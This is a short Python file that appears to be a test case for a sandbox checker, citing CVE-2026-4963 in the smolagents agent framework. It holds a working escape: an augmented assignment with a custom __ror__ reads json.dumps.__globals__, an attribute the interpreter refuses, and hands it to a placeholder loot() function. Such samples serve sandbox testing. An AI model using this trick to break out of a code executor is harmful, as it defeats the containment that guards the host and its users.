# aim: read an attribute that is refused where attributes are read
# mechanism: an augmented assignment to it, which reads it first
# source: CVE-2026-4963 (smolagents)
# language: check
# reason: an attribute is looked up in the table wherever it stands
# refuses: __globals__
# jail: process
# plain: loot
import json

class Taker:
    def __ror__(self, other):
        loot(other)
        return other

try:
    json.dumps.__globals__ |= Taker()
except (AttributeError, TypeError):
    loot(json.dumps.__globals__)
